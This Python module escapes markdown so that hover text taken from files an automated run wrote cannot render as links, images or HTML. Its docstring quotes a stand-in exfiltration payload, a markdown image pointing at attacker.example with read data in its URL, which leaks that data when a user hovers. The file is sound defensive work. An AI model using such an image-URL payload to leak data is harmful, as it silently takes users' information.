"""Text from files a run could have written, put in markdown as the text it is.

A run without network can still write a script, an inputs file or a declared schema whose
words the server shows on hover, in markdown the editor renders: an image there
(`![x](https://attacker.example/?d=...)`), its address holding what the run read, is fetched
the moment the user hovers. So no link, image, HTML, emphasis, code, table, list or heading
may come of such text, and every character must read as itself.

Escaping every ASCII punctuation character does that (CommonMark reads any of them, escaped,
as itself), but a client that shows the markdown source, as Neovim's hover does, then shows
`\\"name\\"\\: string\\, optional`. Only what can begin a construct is escaped: the characters
that open inline ones (links and images need `[` or `<`; `(` and `)` mean nothing without
them), the marks that start a block at the beginning of a line, and what makes a bare address
a link (`://`, `www.`, `@`). A property test holds the result to a CommonMark renderer with
GFM's tables, strikethrough and links made of bare addresses: text alone, every character.
"""

from __future__ import annotations

import re

# Anywhere: what opens emphasis, code, links, images, HTML, entities, tables, strikethrough,
# and the parts of bare addresses (`https://`, `www.x`, `a@b.c`).
_INLINE = re.compile(r"[\\`*_\[\]<>!#|~&@]|:(?=/)|(?<=[wW]{3})\.")
# A line's indent (four spaces make code, where escapes show), and what starts a block there:
# a list item, a setext heading's underline, an ordered list's number.
_LINE_START = re.compile(r"^[ \t]*([-+=]|\d{1,9}(?=[.)]))?", re.MULTILINE)


# The blanks that end a line: markdown shows none of them, and two spaces make a line break.
_LINE_END = re.compile(r"[ \t]+$", re.MULTILINE)


def as_text(text: str) -> str:
    """`text`, to be read by a markdown renderer as exactly these characters (but for the
    blanks that begin and end its lines, which markdown does not show)."""
    escaped = _INLINE.sub(lambda match: "\\" + match[0], text)
    return _LINE_END.sub("", _LINE_START.sub(_line_start, escaped))


def _line_start(match: re.Match[str]) -> str:
    mark = match[1]
    if mark is None:
        return ""
    if mark.isdigit():  # `1.` or `1)`: the number stays, its mark is escaped
        return mark + "\\"
    return "\\" + mark
